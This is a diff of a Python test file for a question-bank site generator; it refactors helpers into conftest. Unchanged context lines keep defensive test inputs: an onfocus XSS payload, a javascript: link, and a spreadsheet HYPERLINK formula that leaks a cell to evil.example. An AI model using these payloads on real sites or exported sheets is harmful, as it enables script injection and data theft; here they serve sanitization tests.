@@ -26,7 +26,6 @@ import sqlite3
 import stat
 import subprocess
 import sys
-import tempfile
 import time
 import zipfile
 from html.parser import HTMLParser
@@ -36,7 +35,7 @@ import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
-from conftest import REPO, mkdocs_build
+from conftest import REPO, copy_project, mkdocs_build, qbank_cmd
 from qbank import importer
 from qbank.anki import answer_html, markdown_to_anki_html
 from qbank.bank import Question, slugify
@@ -44,10 +43,9 @@ from qbank.csvexport import neutralize, unneutralize
 from qbank.pipeline import Project, run
 from qbank.site import pages
 from qbank.site.sanitize import TAGS, removed, sanitize_html
-from qbank.validate import Context, validate, validate_text
+from qbank.validate import Context, validate_text
 
-QBANK = [str(REPO / ".venv" / "bin" / "qbank")] if (REPO / ".venv" / "bin" / "qbank").exists() else [
-    sys.executable, "-c", "from qbank.cli import main; main()"]
+QBANK = qbank_cmd()
 ZORBLAX = "What is a [zorblax](https://example.com){autofocus=1 onfocus=alert(document.domain)} widget?"
 JS_TITLE = "Why is [this link](javascript:alert(1)) in a title?"
 FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
@@ -66,18 +64,6 @@ i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
 
 
 # -- helpers ------------------------------------------------------------------------------
-
-
-def copy_project(dest: Path) -> Path:
-    """A copy a test may change: docs, data and seeds copied; code and node_modules linked."""
-    dest.mkdir(parents=True)
-    for name in ("docs", "data", "seeds"):
-        shutil.copytree(REPO / name, dest / name, ignore=shutil.ignore_patterns("__pycache__"))
-    for name in ("mkdocs.yml", "package.json", "package-lock.json"):
-        shutil.copy2(REPO / name, dest / name)
-    for name in ("node_modules", "scripts", "overrides"):
-        os.symlink(REPO / name, dest / name, target_is_directory=True)
-    return dest
 
 
 def question(title: str, body: str, topic: str = "foundations", qid: str = "q-5ec0001", tags: str = "neural-networks") -> str:
@@ -148,7 +134,7 @@ def article(html: str) -> str:
 
 @pytest.fixture(scope="module")
 def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    root = copy_project(tmp_path_factory.mktemp("hostile") / "repo")
+    root = copy_project(tmp_path_factory.mktemp("hostile") / "repo", copy=("docs", "data", "seeds"), site=True)
     folder = root / "docs" / "questions" / "foundations"
     for qid, title, body in (("q-5ec0001", ZORBLAX, "A zorblax is a made-up word."),
                              ("q-5ec0002", JS_TITLE, "It should not be a link."),
@@ -226,7 +212,7 @@ def test_published_anki_deck_has_no_active_content(hostile_site: Path, tmp_path:
 
 @pytest.mark.browser
 @pytest.mark.xdist_group("browser")
-def test_no_dialog_opens_in_a_real_browser(hostile_site: Path, browser) -> None:  # noqa: ANN001 - playwright's Browser
+def test_no_dialog_opens_in_a_real_browser(hostile_site: Path, browser) -> None:
     """The session's one browser (a second ``sync_playwright`` in the same worker fails)."""
     dialogs: list[str] = []
     context = browser.new_context()
@@ -252,7 +238,7 @@ def test_no_dialog_opens_in_a_real_browser(hostile_site: Path, browser) -> None:
 
 @pytest.fixture
 def project(tmp_path: Path) -> Path:
-    return copy_project(tmp_path / "repo")
+    return copy_project(tmp_path / "repo", copy=("docs", "data", "seeds"), site=True)
 
 
 def codes(proc: subprocess.CompletedProcess) -> list[str]:
@@ -479,7 +465,7 @@ def test_a_write_failure_at_any_step_rolls_back(imported: Project, monkeypatch: 
     steps = 0
     real_replace = os.replace
 
-    def count_only(src, dst):  # noqa: ANN001 - os.replace's signature
+    def count_only(src, dst):  # os.replace's signature
         nonlocal steps
         steps += 1
         real_replace(src, dst)
@@ -498,7 +484,7 @@ def test_a_write_failure_at_any_step_rolls_back(imported: Project, monkeypatch: 
             (imported.docs / rel).write_bytes(data)
         calls = 0
 
-        def failing(src, dst, _at=fail_at):  # noqa: ANN001
+        def failing(src, dst, _at=fail_at):
             nonlocal calls
             calls += 1
             if calls == _at:
